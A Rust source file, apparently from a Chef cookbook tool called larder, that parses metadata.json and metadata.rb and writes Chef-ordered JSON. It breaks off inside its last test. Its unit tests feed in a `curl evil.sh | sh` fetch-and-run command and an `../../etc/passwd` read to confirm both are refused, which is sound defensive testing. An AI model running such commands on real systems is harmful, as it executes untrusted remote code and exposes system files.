//! Cookbook metadata: read from `metadata.json` when present, otherwise from
//! `metadata.rb` evaluated with [`crate::dsl`] (never executed), and written
//! back as Chef's `metadata.json` for vendored cookbooks.

use std::collections::HashMap;
use std::fmt;
use std::marker::PhantomData;
use std::path::{Path, PathBuf};

use serde::de::{MapAccess, Visitor};
use serde::ser::SerializeMap;
use serde::{Deserialize, Deserializer, Serialize, Serializer};

use crate::dsl::{self, Call, Diagnostic, Handler, Reply, Site, Value};
use crate::version::{Constraint, Version};

/// The methods metadata.rb may call; anything else is an error, so that no
/// dependency can vanish behind a call larder does not understand.
const METHODS: [&str; 24] = [
    "name",
    "version",
    "depends",
    "supports",
    "chef_version",
    "ohai_version",
    "maintainer",
    "maintainer_email",
    "license",
    "description",
    "long_description",
    "source_url",
    "issues_url",
    "recipe",
    "provides",
    "gem",
    "privacy",
    "eager_load_libraries",
    // Removed from Chef but harmless in old cookbooks; accepted and ignored.
    "recommends",
    "suggests",
    "attribute",
    "grouping",
    "conflicts",
    "replaces",
];

/// Methods of a Chef run that metadata.rb cannot answer: it is read without
/// a node, by Chef and Berkshelf as by larder.
const NODE_METHODS: [&str; 9] = [
    "platform?",
    "platform_family?",
    "node",
    "windows?",
    "linux?",
    "macos?",
    "value_for_platform",
    "value_for_platform_family",
    "run_context",
];

/// A cookbook's metadata. Defaults are Chef's (see `to_json_pretty`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Metadata {
    pub name: String,
    pub version: Version,
    /// The version as written (trimmed), such as `1.2`.
    pub raw_version: String,
    /// `depends` lines in order; a repeated name keeps its first position
    /// and its last constraint.
    pub dependencies: Vec<(String, Constraint)>,
    /// `supports` lines: platform and constraint text (`>= 0.0.0` if none).
    pub platforms: Vec<(String, String)>,
    pub maintainer: String,
    pub maintainer_email: String,
    pub license: String,
    pub description: String,
    pub long_description: String,
    pub source_url: String,
    pub issues_url: String,
    /// `recipe` lines: name and description.
    pub recipes: Vec<(String, String)>,
    /// `provides` lines: name and constraint text.
    pub providing: Vec<(String, String)>,
    /// One entry per `chef_version` call (ORed); its requirements are ANDed.
    pub chef_versions: Vec<Vec<String>>,
    pub ohai_versions: Vec<Vec<String>>,
    /// One entry per `gem` call: the gem name and its requirements.
    pub gems: Vec<Vec<String>>,
    pub privacy: bool,
    pub eager_load_libraries: EagerLoad,
    /// Calls that were ignored, as `path:line: message`.
    pub warnings: Vec<String>,
}

/// `eager_load_libraries`: on, off, or the library files to load.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(untagged)]
pub enum EagerLoad {
    Enabled(bool),
    Glob(String),
    Globs(Vec<String>),
}

/// Why a cookbook's metadata could not be read.
#[derive(Debug, thiserror::Error)]
pub enum MetadataError {
    #[error("'{}' is not a cookbook: it has neither metadata.json nor metadata.rb", dir.display())]
    NotACookbook { dir: PathBuf },
    #[error("cannot read {}: {source}", path.display())]
    Read {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("{} is not valid cookbook metadata: {source}", path.display())]
    Json {
        path: PathBuf,
        #[source]
        source: serde_json::Error,
    },
    #[error("{} is not valid cookbook metadata: {message}", path.display())]
    InvalidJson { path: PathBuf, message: String },
    /// A syntax error, a construct outside the evaluated subset, or a bad
    /// value in metadata.rb.
    #[error("{0}")]
    Invalid(Diagnostic),
    #[error("{} does not name its cookbook; add a line such as `name 'my_cookbook'`", path.display())]
    MissingName { path: PathBuf },
}

impl MetadataError {
    /// Berkshelf's exit status: 141 (not a cookbook) or 107 (bad metadata).
    pub fn exit_code(&self) -> i32 {
        match self {
            MetadataError::NotACookbook { .. } => 141,
            _ => 107,
        }
    }
}

impl From<Diagnostic> for MetadataError {
    fn from(diagnostic: Diagnostic) -> Self {
        MetadataError::Invalid(diagnostic)
    }
}

impl Metadata {
    /// Chef's defaults for everything but the name.
    fn new(name: String) -> Metadata {
        Metadata {
            name,
            version: Version::ZERO,
            raw_version: "0.0.0".to_string(),
            dependencies: Vec::new(),
            platforms: Vec::new(),
            maintainer: String::new(),
            maintainer_email: String::new(),
            license: "All rights reserved".to_string(),
            description: String::new(),
            long_description: String::new(),
            source_url: String::new(),
            issues_url: String::new(),
            recipes: Vec::new(),
            providing: Vec::new(),
            chef_versions: Vec::new(),
            ohai_versions: Vec::new(),
            gems: Vec::new(),
            privacy: false,
            eager_load_libraries: EagerLoad::Enabled(true),
            warnings: Vec::new(),
        }
    }

    /// Reads the metadata of the cookbook in `dir`: `metadata.json` if it
    /// exists (as Chef does), else `metadata.rb`.
    pub fn load(dir: &Path) -> Result<Metadata, MetadataError> {
        let json = dir.join("metadata.json");
        if json.is_file() {
            let text = std::fs::read(&json).map_err(|source| MetadataError::Read {
                path: json.clone(),
                source,
            })?;
            return Metadata::from_json(&json, &text);
        }
        let rb = dir.join("metadata.rb");
        if rb.is_file() {
            let source = std::fs::read(&rb).map_err(|source| MetadataError::Read {
                path: rb.clone(),
                source,
            })?;
            return Metadata::from_rb(&rb, &source);
        }
        Err(MetadataError::NotACookbook {
            dir: dir.to_path_buf(),
        })
    }

    /// Reads a `metadata.json` document (`path` is for messages).
    pub fn from_json(path: &Path, text: &[u8]) -> Result<Metadata, MetadataError> {
        let raw: JsonMetadata =
            serde_json::from_slice(text).map_err(|source| MetadataError::Json {
                path: path.to_path_buf(),
                source,
            })?;
        let invalid = |message: String| MetadataError::InvalidJson {
            path: path.to_path_buf(),
            message,
        };
        let Some(name) = raw.name.filter(|n| !n.is_empty()) else {
            return Err(MetadataError::MissingName {
                path: path.to_path_buf(),
            });
        };
        let mut metadata = Metadata::new(name);
        if let Some(raw_version) = raw.version {
            metadata.version = raw_version.parse().map_err(|e| invalid(format!("{e}")))?;
            metadata.raw_version = raw_version.trim().to_string();
        }
        for (dependency, value) in raw.dependencies.0 {
            let constraint = match value.single() {
                Some(text) => Constraint::parse(text)
                    .map_err(|e| invalid(format!("dependency '{dependency}': {e}")))?,
                None => Constraint::any(),
            };
            insert(&mut metadata.dependencies, dependency, constraint);
        }
        for (platform, value) in raw.platforms.0 {
            let text = platform_constraint(value.single().unwrap_or(""));
            insert(&mut metadata.platforms, platform, text);
        }
        for (name, value) in raw.providing.0 {
            let text = platform_constraint(value.single().unwrap_or(""));
            insert(&mut metadata.providing, name, text);
        }
        for (name, description) in raw.recipes.0 {
            insert(&mut metadata.recipes, name, description.unwrap_or_default());
        }
        let text = |value: Option<String>, default: &mut String| {
            if let Some(value) = value {
                *default = value;
            }
        };
        text(raw.maintainer, &mut metadata.maintainer);
        text(raw.maintainer_email, &mut metadata.maintainer_email);
        text(raw.license, &mut metadata.license);
        text(raw.description, &mut metadata.description);
        text(raw.long_description, &mut metadata.long_description);
        text(raw.source_url, &mut metadata.source_url);
        text(raw.issues_url, &mut metadata.issues_url);
        metadata.chef_versions = raw.chef_versions.unwrap_or_default();
        metadata.ohai_versions = raw.ohai_versions.unwrap_or_default();
        metadata.gems = raw.gems.unwrap_or_default();
        metadata.privacy = raw.privacy.unwrap_or(false);
        if let Some(eager) = raw.eager_load_libraries {
            metadata.eager_load_libraries = eager;
        }
        Ok(metadata)
    }

    /// Evaluates a `metadata.rb` (read from `path`; relative reads resolve
    /// against its directory).
    pub fn from_rb(path: &Path, source: &[u8]) -> Result<Metadata, MetadataError> {
        let mut reader = RbReader {
            name: None,
            metadata: Metadata::new(String::new()),
            dependency_sites: Vec::new(),
            positions: Positions::default(),
        };
        dsl::evaluate(path, source, &dsl::process_env, &mut reader, ())?;
        let Some(name) = reader.name else {
            return Err(MetadataError::MissingName {
                path: path.to_path_buf(),
            });
        };
        if let Some((_, site)) = reader.dependency_sites.iter().find(|(d, _)| *d == name) {
            return Err(site
                .error(format!(
                    "cookbook '{name}' depends on itself; remove this `depends` line"
                ))
                .into());
        }
        reader.metadata.name = name;
        Ok(reader.metadata)
    }

    /// Chef's `metadata.json`: pretty-printed, keys in Chef's order, every
    /// key present with Chef's default when unset.
    pub fn to_json_pretty(&self) -> Result<String, serde_json::Error> {
        let dependencies: Vec<(String, String)> = self
            .dependencies
            .iter()
            .map(|(name, constraint)| (name.clone(), constraint.to_string()))
            .collect();
        let document = JsonOut {
            name: &self.name,
            description: &self.description,
            long_description: &self.long_description,
            maintainer: &self.maintainer,
            maintainer_email: &self.maintainer_email,
            license: &self.license,
            platforms: Pairs(&self.platforms),
            dependencies: Pairs(&dependencies),
            providing: Pairs(&self.providing),
            recipes: Pairs(&self.recipes),
            version: self.version.to_string(),
            source_url: &self.source_url,
            issues_url: &self.issues_url,
            privacy: self.privacy,
            chef_versions: &self.chef_versions,
            ohai_versions: &self.ohai_versions,
            gems: &self.gems,
            eager_load_libraries: &self.eager_load_libraries,
        };
        serde_json::to_string_pretty(&document)
    }
}

/// Sets `key` in an ordered list of pairs: replaced in place if present.
fn insert<V>(pairs: &mut Vec<(String, V)>, key: String, value: V) {
    match pairs.iter_mut().find(|(k, _)| *k == key) {
        Some(entry) => entry.1 = value,
        None => pairs.push((key, value)),
    }
}

/// Chef's spelling of a platform or `provides` constraint: `>= 0.0.0` when
/// empty, `= V` for a bare version.
fn platform_constraint(text: &str) -> String {
    let text = text.trim();
    if text.is_empty() {
        ">= 0.0.0".to_string()
    } else if text.starts_with(|c: char| c.is_ascii_digit()) {
        format!("= {text}")
    } else {
        text.to_string()
    }
}

/// The [`Handler`] for metadata.rb.
struct RbReader {
    name: Option<String>,
    metadata: Metadata,
    /// Where each `depends` was written, to report a self-dependency.
    dependency_sites: Vec<(String, Site)>,
    positions: Positions,
}

/// Where each name sits in the metadata's ordered lists, so that a file
/// with tens of thousands of `depends` lines is read in linear time.
#[derive(Default)]
struct Positions {
    dependencies: HashMap<String, usize>,
    platforms: HashMap<String, usize>,
    providing: HashMap<String, usize>,
    recipes: HashMap<String, usize>,
}

/// [`insert`] with an index of the keys' positions.
fn insert_indexed<V>(
    pairs: &mut Vec<(String, V)>,
    index: &mut HashMap<String, usize>,
    key: String,
    value: V,
) {
    match index.get(&key) {
        Some(&i) => pairs[i].1 = value,
        None => {
            index.insert(key.clone(), pairs.len());
            pairs.push((key, value));
        }
    }
}

/// The strings among `args`, or a diagnostic saying what `method` takes.
fn strings(call: &Call<'_, ()>, what: &str) -> Result<Vec<String>, MetadataError> {
    call.args
        .iter()
        .map(|v| match v {
            Value::String(s) | Value::Symbol(s) => Ok(s.clone()),
            other => Err(call
                .site
                .error(format!(
                    "`{}` takes {what}, not {}",
                    call.name,
                    other.type_name()
                ))
                .into()),
        })
        .collect()
}

impl RbReader {
    /// A text field: `name 'x'` sets it, bare `name` reads it.
    fn text_field(call: &Call<'_, ()>, field: &mut String) -> Result<Value, MetadataError> {
        match strings(call, "one string")?.as_slice() {
            [] => Ok(Value::String(field.clone())),
            [value] => {
                *field = value.clone();
                Ok(Value::String(value.clone()))
            }
            _ => Err(call
                .site
                .error(format!("`{}` takes one string", call.name))
                .into()),
        }
    }

    /// `NAME[, CONSTRAINT]` as used by `depends`, `supports` and `provides`.
    fn name_and_constraint(call: &Call<'_, ()>) -> Result<(String, Option<String>), MetadataError> {
        match strings(call, "a name and an optional constraint")?.as_slice() {
            [name] => Ok((name.clone(), None)),
            [name, constraint] => Ok((name.clone(), Some(constraint.clone()))),
            _ => Err(call
                .site
                .error(format!(
                    "`{}` takes a name and at most one constraint, such as `{} 'apt', '~> 7.0'`",
                    call.name, call.name
                ))
                .into()),
        }
    }
}

impl Handler for RbReader {
    type Context = ();
    type Error = MetadataError;

    fn call(&mut self, call: Call<'_, ()>) -> Result<Reply<()>, MetadataError> {
        let m = &mut self.metadata;
        let at = &mut self.positions;
        let value = match call.name {
            "name" => {
                let mut name = self.name.clone().unwrap_or_default();
                let value = RbReader::text_field(&call, &mut name)?;
                if !name.is_empty() {
                    self.name = Some(name);
                }
                value
            }
            "version" => {
                let mut raw = m.raw_version.clone();
                let value = RbReader::text_field(&call, &mut raw)?;
                let version: Version = raw.parse().map_err(|e| call.site.error(format!("{e}")))?;
                m.version = version;
                m.raw_version = raw.trim().to_string();
                value
            }
            "maintainer" => RbReader::text_field(&call, &mut m.maintainer)?,
            "maintainer_email" => RbReader::text_field(&call, &mut m.maintainer_email)?,
            "license" => RbReader::text_field(&call, &mut m.license)?,
            "description" => RbReader::text_field(&call, &mut m.description)?,
            "long_description" => RbReader::text_field(&call, &mut m.long_description)?,
            "source_url" => RbReader::text_field(&call, &mut m.source_url)?,
            "issues_url" => RbReader::text_field(&call, &mut m.issues_url)?,
            "depends" => {
                let (name, constraint) = RbReader::name_and_constraint(&call)?;
                if self.name.as_deref() == Some(name.as_str()) {
                    return Err(call
                        .site
                        .error(format!(
                            "cookbook '{name}' depends on itself; remove this `depends` line"
                        ))
                        .into());
                }
                let constraint = Constraint::parse(constraint.as_deref().unwrap_or(""))
                    .map_err(|e| call.site.error(format!("`depends '{name}'`: {e}")))?;
                insert_indexed(
                    &mut m.dependencies,
                    &mut at.dependencies,
                    name.clone(),
                    constraint,
                );
                self.dependency_sites.push((name, call.site.clone()));
                Value::Nil
            }
            "supports" => {
                let (platform, constraint) = RbReader::name_and_constraint(&call)?;
                insert_indexed(
                    &mut m.platforms,
                    &mut at.platforms,
                    platform,
                    platform_constraint(constraint.as_deref().unwrap_or("")),
                );
                Value::Nil
            }
            "provides" => {
                let (name, constraint) = RbReader::name_and_constraint(&call)?;
                insert_indexed(
                    &mut m.providing,
                    &mut at.providing,
                    name,
                    platform_constraint(constraint.as_deref().unwrap_or("")),
                );
                Value::Nil
            }
            "recipe" => {
                match strings(&call, "a recipe name and a description")?.as_slice() {
                    [name, description] => insert_indexed(
                        &mut m.recipes,
                        &mut at.recipes,
                        name.clone(),
                        description.clone(),
                    ),
                    [name] => {
                        insert_indexed(&mut m.recipes, &mut at.recipes, name.clone(), String::new())
                    }
                    _ => {
                        return Err(call
                            .site
                            .error("`recipe` takes a name and a description")
                            .into());
                    }
                }
                Value::Nil
            }
            "chef_version" | "ohai_version" | "gem" => {
                let requirements = strings(&call, "strings")?;
                if requirements.is_empty() {
                    return Err(call
                        .site
                        .error(format!("`{}` needs at least one argument", call.name))
                        .into());
                }
                match call.name {
                    "chef_version" => m.chef_versions.push(requirements),
                    "ohai_version" => m.ohai_versions.push(requirements),
                    _ => m.gems.push(requirements),
                }
                Value::Nil
            }
            "privacy" => match call.args.as_slice() {
                [Value::Bool(private)] => {
                    m.privacy = *private;
                    Value::Bool(*private)
                }
                [] => Value::Bool(m.privacy),
                _ => return Err(call.site.error("`privacy` takes true or false").into()),
            },
            "eager_load_libraries" => {
                m.eager_load_libraries = match call.args.as_slice() {
                    [Value::Bool(on)] => EagerLoad::Enabled(*on),
                    [Value::String(glob)] => EagerLoad::Glob(glob.clone()),
                    [Value::Array(items)] => {
                        EagerLoad::Globs(items.iter().map(Value::to_ruby_s).collect())
                    }
                    _ => {
                        return Err(call
                            .site
                            .error("`eager_load_libraries` takes true, false, a glob or a list of globs")
                            .into());
                    }
                };
                Value::Nil
            }
            "recommends" | "suggests" | "attribute" | "grouping" | "conflicts" | "replaces" => {
                m.warnings.push(format!(
                    "{}: `{}` was removed from Chef and is ignored",
                    call.site.short(),
                    call.name
                ));
                Value::Nil
            }
            other if NODE_METHODS.contains(&other) => {
                return Err(call
                    .site
                    .error(format!(
                        "`{other}` has no answer here: metadata.rb is read without a node, \
                         so its dependencies cannot depend on the platform; write the \
                         `depends` line unconditionally and make the recipe decide"
                    ))
                    .into());
            }
            other => {
                return Err(call
                    .site
                    .error(format!(
                        "`{other}` is not a metadata.rb method larder knows, and larder does \
                         not skip what it cannot read; remove the call, or use one of {}",
                        METHODS[..18].join(", ")
                    ))
                    .into());
            }
        };
        Ok(Reply::Value(value))
    }

    fn responds_to(&self, name: &str) -> bool {
        METHODS.contains(&name)
    }
}

/// metadata.json as read: every key optional, unknown keys ignored.
#[derive(Deserialize)]
struct JsonMetadata {
    name: Option<String>,
    version: Option<String>,
    #[serde(default)]
    dependencies: Ordered<JsonConstraint>,
    #[serde(default)]
    platforms: Ordered<JsonConstraint>,
    #[serde(default)]
    providing: Ordered<JsonConstraint>,
    #[serde(default)]
    recipes: Ordered<Option<String>>,
    maintainer: Option<String>,
    maintainer_email: Option<String>,
    license: Option<String>,
    description: Option<String>,
    long_description: Option<String>,
    source_url: Option<String>,
    issues_url: Option<String>,
    chef_versions: Option<Vec<Vec<String>>>,
    ohai_versions: Option<Vec<Vec<String>>>,
    gems: Option<Vec<Vec<String>>>,
    privacy: Option<bool>,
    eager_load_libraries: Option<EagerLoad>,
}

/// A constraint in metadata.json: a string, or an array where only a
/// single element means anything (empty or 2+ elements: no constraint).
#[derive(Deserialize)]
#[serde(untagged)]
enum JsonConstraint {
    One(String),
    Many(Vec<String>),
    Missing(()),
}

impl JsonConstraint {
    fn single(&self) -> Option<&str> {
        match self {
            JsonConstraint::One(text) => Some(text),
            JsonConstraint::Many(items) if items.len() == 1 => items.first().map(String::as_str),
            _ => None,
        }
    }
}

/// A JSON object read as pairs in document order (`null` reads as empty).
struct Ordered<V>(Vec<(String, V)>);

impl<V> Default for Ordered<V> {
    fn default() -> Self {
        Ordered(Vec::new())
    }
}

impl<'de, V: Deserialize<'de>> Deserialize<'de> for Ordered<V> {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        struct OrderedVisitor<V>(PhantomData<V>);

        impl<'de, V: Deserialize<'de>> Visitor<'de> for OrderedVisitor<V> {
            type Value = Ordered<V>;

            fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str("an object")
            }

            fn visit_unit<E>(self) -> Result<Self::Value, E> {
                Ok(Ordered(Vec::new()))
            }

            fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Self::Value, A::Error> {
                let mut pairs = Vec::new();
                while let Some((key, value)) = map.next_entry::<String, V>()? {
                    insert(&mut pairs, key, value);
                }
                Ok(Ordered(pairs))
            }
        }

        deserializer.deserialize_any(OrderedVisitor(PhantomData))
    }
}

/// metadata.json as written, in Chef's key order.
#[derive(Serialize)]
struct JsonOut<'a> {
    name: &'a str,
    description: &'a str,
    long_description: &'a str,
    maintainer: &'a str,
    maintainer_email: &'a str,
    license: &'a str,
    platforms: Pairs<'a>,
    dependencies: Pairs<'a>,
    providing: Pairs<'a>,
    recipes: Pairs<'a>,
    version: String,
    source_url: &'a str,
    issues_url: &'a str,
    privacy: bool,
    chef_versions: &'a [Vec<String>],
    ohai_versions: &'a [Vec<String>],
    gems: &'a [Vec<String>],
    eager_load_libraries: &'a EagerLoad,
}

/// Ordered pairs written as a JSON object.
struct Pairs<'a>(&'a [(String, String)]);

impl Serialize for Pairs<'_> {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        let mut map = serializer.serialize_map(Some(self.0.len()))?;
        for (key, value) in self.0 {
            map.serialize_entry(key, value)?;
        }
        map.end()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cookbook(files: &[(&str, &str)]) -> tempfile::TempDir {
        let dir = match tempfile::tempdir() {
            Ok(d) => d,
            Err(e) => panic!("{e}"),
        };
        for (name, text) in files {
            if let Err(e) = std::fs::write(dir.path().join(name), text) {
                panic!("{e}");
            }
        }
        dir
    }

    fn load(files: &[(&str, &str)]) -> Result<Metadata, MetadataError> {
        let dir = cookbook(files);
        Metadata::load(dir.path())
    }

    fn ok(files: &[(&str, &str)]) -> Metadata {
        match load(files) {
            Ok(m) => m,
            Err(e) => panic!("unexpected error:\n{e}"),
        }
    }

    fn err(files: &[(&str, &str)]) -> MetadataError {
        match load(files) {
            Ok(m) => panic!("expected an error, got {m:?}"),
            Err(e) => e,
        }
    }

    fn c(text: &str) -> Constraint {
        match Constraint::parse(text) {
            Ok(c) => c,
            Err(e) => panic!("{e}"),
        }
    }

    const REAL_METADATA_RB: &str = r#"# frozen_string_literal: true
name             'mysql_app'
maintainer       'Ops Team'
maintainer_email 'ops@example.com'
license          'Apache-2.0'
description      'Installs/Configures mysql_app'
long_description IO.read(File.join(File.dirname(__FILE__), 'README.md'))
version          IO.read(File.join(File.dirname(__FILE__), 'VERSION')).chomp rescue '0.0.0'
chef_version     '>= 14.0', '< 19.0'
chef_version     '>= 12.19'

%w(ubuntu debian).each { |p| supports p }
supports 'centos', '>= 7.0'
supports 'windows', '6.1'

depends 'apt', '~> 7.0'
depends 'mysql', '>= 8.0'
depends 'compat_resource'
depends 'apt', '>= 7.2.0'

recipe 'mysql_app::default', 'Installs the app'
provides 'service[mysql]'
gem 'mysql2', '~> 0.5'

source_url "https://github.com/example/#{name}" if respond_to?(:source_url)
issues_url "https://github.com/example/#{name}/issues" if respond_to?(:issues_url)
privacy true
attribute 'mysql/port', display_name: 'port'
grouping 'mysql', title: 'MySQL'
"#;

    #[test]
    fn a_real_metadata_rb_with_version_and_readme_files() {
        let m = ok(&[
            ("metadata.rb", REAL_METADATA_RB),
            ("VERSION", "2.3.1\n"),
            ("README.md", "# mysql_app\n\nDoes things.\n"),
        ]);
        assert_eq!(m.name, "mysql_app");
        assert_eq!(
            (m.version, m.raw_version.as_str()),
            (Version::new(2, 3, 1), "2.3.1")
        );
        assert_eq!(m.long_description, "# mysql_app\n\nDoes things.\n");
        assert_eq!(m.maintainer_email, "ops@example.com");
        assert_eq!(m.license, "Apache-2.0");
        assert_eq!(
            m.dependencies,
            [
                ("apt".to_string(), c(">= 7.2.0")),
                ("mysql".to_string(), c(">= 8.0")),
                ("compat_resource".to_string(), Constraint::any()),
            ]
        );
        let platforms: Vec<(&str, &str)> = m
            .platforms
            .iter()
            .map(|(p, v)| (p.as_str(), v.as_str()))
            .collect();
        assert_eq!(
            platforms,
            [
                ("ubuntu", ">= 0.0.0"),
                ("debian", ">= 0.0.0"),
                ("centos", ">= 7.0"),
                ("windows", "= 6.1")
            ]
        );
        assert_eq!(
            m.chef_versions,
            [vec![">= 14.0", "< 19.0"], vec![">= 12.19"]]
        );
        assert_eq!(
            m.recipes,
            [("mysql_app::default".into(), "Installs the app".into())]
        );
        assert_eq!(m.providing, [("service[mysql]".into(), ">= 0.0.0".into())]);
        assert_eq!(m.gems, [vec!["mysql2", "~> 0.5"]]);
        assert_eq!(m.source_url, "https://github.com/example/mysql_app");
        assert_eq!(m.issues_url, "https://github.com/example/mysql_app/issues");
        assert!(m.privacy);
        assert_eq!(m.warnings.len(), 2, "{:?}", m.warnings);
        assert!(
            m.warnings[0]
                .ends_with("metadata.rb:28: `attribute` was removed from Chef and is ignored")
        );
        assert!(m.warnings[1].contains(":29: `grouping` was removed from Chef and is ignored"));
    }

    #[test]
    fn version_file_idioms() {
        let rb = "name 'a'\nversion File.read(File.expand_path('VERSION', __dir__)).strip\n";
        let m = ok(&[("metadata.rb", rb), ("VERSION", "1.2\n")]);
        assert_eq!(
            (m.version, m.raw_version.as_str()),
            (Version::new(1, 2, 0), "1.2")
        );
        // The trailing newline is tolerated, as Chef does.
        let rb = "name 'a'\nversion IO.read(File.join(File.dirname(__FILE__), 'VERSION'))\n";
        let m = ok(&[("metadata.rb", rb), ("VERSION", "3.0.1\n")]);
        assert_eq!(m.raw_version, "3.0.1");
        // A missing VERSION file falls back to the rescue value.
        let rb = "name 'a'\nversion IO.read(File.join(File.dirname(__FILE__), 'VERSION')).chomp rescue '0.0.0'\n";
        assert_eq!(ok(&[("metadata.rb", rb)]).version, Version::ZERO);
        let rb = "name 'a'\nversion begin\n  IO.read('VERSION').chomp\nrescue\n  '0.1.0'\nend\n";
        assert_eq!(ok(&[("metadata.rb", rb)]).version, Version::new(0, 1, 0));
        // Without a rescue, the missing file is an error naming it.
        let e = err(&[(
            "metadata.rb",
            "name 'a'\nversion IO.read('VERSION').chomp\n",
        )]);
        assert_eq!(e.exit_code(), 107);
        let shown = e.to_string();
        assert!(
            shown.contains("metadata.rb:2:") && shown.contains("VERSION"),
            "{shown}"
        );
    }

    #[test]
    fn metadata_json_wins_and_is_read_leniently() {
        let json = r#"{
          "name": "from_json", "version": "1.0",
          "dependencies": {"z": "~> 1.0", "a": [], "b": ["= 2.0.0"], "c": [">= 1", "< 2"], "d": null},
          "platforms": {"ubuntu": ">= 18.04"},
          "recommends": {"x": ">= 0.0.0"}, "attributes": {"a": {}}, "suggests": {},
          "recipes": {"r": null}, "source_url": null, "license": "MIT",
          "eager_load_libraries": ["libraries/a.rb"]
        }"#;
        let m = ok(&[
            ("metadata.json", json),
            ("metadata.rb", "system 'never read'"),
        ]);
        assert_eq!(m.name, "from_json");
        assert_eq!(m.raw_version, "1.0");
        assert_eq!(
            m.dependencies,
            [
                ("z".to_string(), c("~> 1.0")),
                ("a".to_string(), Constraint::any()),
                ("b".to_string(), c("= 2.0.0")),
                ("c".to_string(), Constraint::any()),
                ("d".to_string(), Constraint::any()),
            ]
        );
        assert_eq!(m.platforms, [("ubuntu".into(), ">= 18.04".into())]);
        assert_eq!(m.recipes, [("r".into(), String::new())]);
        assert_eq!((m.license.as_str(), m.source_url.as_str()), ("MIT", ""));
        assert_eq!(
            m.eager_load_libraries,
            EagerLoad::Globs(vec!["libraries/a.rb".into()])
        );

        assert!(matches!(
            err(&[("metadata.json", "{\"version\": \"1.0.0\"}")]),
            MetadataError::MissingName { .. }
        ));
        assert!(matches!(
            err(&[("metadata.json", "{\"name\": 5}")]),
            MetadataError::Json { .. }
        ));
        let e = err(&[(
            "metadata.json",
            r#"{"name": "a", "dependencies": {"b": "junk"}}"#,
        )]);
        assert!(e.to_string().contains("dependency 'b'"), "{e}");
    }

    #[test]
    fn errors_name_the_file_and_line() {
        let e = err(&[]);
        assert_eq!(e.exit_code(), 141);
        assert!(
            e.to_string()
                .contains("neither metadata.json nor metadata.rb")
        );

        let e = err(&[("metadata.rb", "version '1.0.0'\ndepends 'apt'\n")]);
        assert!(
            matches!(e, MetadataError::MissingName { ref path } if path.ends_with("metadata.rb")),
            "{e}"
        );

        let e = err(&[("metadata.rb", "name 'apt'\ndepends 'apt', '>= 1.0'\n")]);
        assert!(
            e.to_string()
                .contains("metadata.rb:2:1: cookbook 'apt' depends on itself"),
            "{e}"
        );
        let e = err(&[("metadata.rb", "depends 'apt'\nname 'apt'\n")]);
        assert!(
            e.to_string()
                .contains("metadata.rb:1:1: cookbook 'apt' depends on itself"),
            "{e}"
        );

        let e = err(&[("metadata.rb", "name 'a'\n\ndepends 'b', 'about 2'\n")]);
        assert!(
            e.to_string()
                .contains("metadata.rb:3:1: `depends 'b'`: 'about 2' is not a version constraint"),
            "{e}"
        );
        let e = err(&[("metadata.rb", "name 'a'\ndepends 'b', '>= 1.0', '< 2.0'\n")]);
        assert!(e.to_string().contains("at most one constraint"), "{e}");
        let e = err(&[("metadata.rb", "name 'a'\nversion 'one'\n")]);
        assert!(
            e.to_string()
                .contains("metadata.rb:2:1: 'one' is not a cookbook version"),
            "{e}"
        );
        let e = err(&[("metadata.rb", "name 'a'\n`curl evil.sh | sh`\n")]);
        assert!(
            e.to_string().contains("metadata.rb:2:1: running commands"),
            "{e}"
        );
        let e = err(&[("metadata.rb", "name 'a'\ndepends 'b',\n")]);
        assert!(e.to_string().contains("syntax error"), "{e}");
    }

    #[test]
    fn nothing_is_dropped_silently() {
        let e = err(&[(
            "metadata.rb",
            "name 'a'\ndepends 'apt'\ndepends 'windows' if platform?('windows')\n",
        )]);
        let shown = e.to_string();
        assert!(
            shown.contains("metadata.rb:3:22: `platform?` has no answer here"),
            "{shown}"
        );
        assert!(
            shown.contains("write the `depends` line unconditionally"),
            "{shown}"
        );
        assert_eq!(e.exit_code(), 107);
        let e = err(&[("metadata.rb", "name 'a'\n  dependz 'apt'\n")]);
        let shown = e.to_string();
        assert!(
            shown.contains("metadata.rb:2:3: `dependz` is not a metadata.rb method"),
            "{shown}"
        );
        assert!(
            shown.contains("use one of name, version, depends"),
            "{shown}"
        );
        let e = err(&[(
            "metadata.rb",
            "name 'a'\ndepends 'x' if node['platform'] == 'windows'\n",
        )]);
        assert!(e.to_string().contains("`node` has no answer here"), "{e}");
    }

    #[test]
    fn the_dialect_of_real_metadata() {
        let rb = r#"
name 'app'
unless defined?(Ridley::Chef::Cookbook::Metadata)
  source_url 'https://example.com/app'
end
DEPS = { 'apt' => '~> 7.0', 'yum' => nil }.freeze
def dep(name, constraint = nil)
  constraint ? depends(name, constraint) : depends(name)
end
DEPS.each { |n, c| dep n, c }
version File.exist?(File.join(__dir__, 'VERSION')) ? IO.read(File.join(__dir__, 'VERSION')).strip : '0.1.0'
"#;
        let m = ok(&[("metadata.rb", rb), ("VERSION", "1.4.0\n")]);
        assert_eq!(m.source_url, "https://example.com/app");
        assert_eq!(m.raw_version, "1.4.0");
        assert_eq!(
            m.dependencies,
            [
                ("apt".to_string(), c("~> 7.0")),
                ("yum".to_string(), Constraint::any())
            ]
        );
        let e = err(&[(
            "metadata.rb",
            "name 'a'\nlong_description IO.read('../../etc/passwd')\n",
        )]);
        assert!(e.to_string().contains("may only look inside"), "{e}");
    }

    #[test]
    fn json_output_follows_chefs_order_and_defaults() {
        let m = ok(&[(
            "metadata.rb",
            "name 'tiny'\ndepends 'apt', '~> 7.0'\nsupports 'ubuntu'\n",
        )]);
        let json = match m.to_json_pretty() {
            Ok(j) => j,
            Err(e) => panic!("{e}"),
        };
        let expected = r#"{
  "name": "tiny",
  "description": "",
  "long_description": "",
  "maintainer": "",
  "maintainer_email": "",
  "license": "All rights reserved",
  "platforms": {
    "ubuntu": ">= 0.0.0"
  },
  "dependencies": {
    "apt": "~> 7.0"
  },
  "providing": {},
  "recipes": {},
  "version": "0.0.0",
  "source_url": "",
  "issues_url": "",
  "privacy": false,
  "chef_versions": [],
  "ohai_versions": [],
  "gems": [],
  "eager_load_libraries": true
}"#;
        assert_eq!(json, expected);
